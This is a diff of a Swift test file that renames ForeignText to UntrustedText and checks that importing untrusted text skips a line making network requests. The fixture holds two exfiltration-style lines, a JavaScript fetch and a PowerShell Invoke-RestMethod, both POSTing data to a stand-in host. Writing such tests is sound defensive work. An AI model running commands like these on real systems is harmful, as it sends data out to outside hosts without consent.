@@ -7,7 +7,7 @@ import Testing
 struct ImportLimitTests {
   private func folder(_ name: String, _ text: String) throws -> ImportedFolder {
     var collection = ImportedCollection()
-    try collection.add(ForeignText(text), named: name)
+    try collection.add(UntrustedText(text), named: name)
     return ImportedFolder(collection, from: "them")
   }
 
@@ -72,7 +72,7 @@ struct ImportLimitTests {
         ? "fetch('http://h/', {method: 'POST', body: JSON.stringify({query: a40})});"
         : "Invoke-RestMethod http://h/ -Method Post -Body $a40")
     var collection = ImportedCollection()
-    try collection.add(ForeignText(lines.joined(separator: "\n")), named: name)
+    try collection.add(UntrustedText(lines.joined(separator: "\n")), named: name)
     #expect(collection.skipped == 1 && collection.requests.isEmpty)
   }
 }
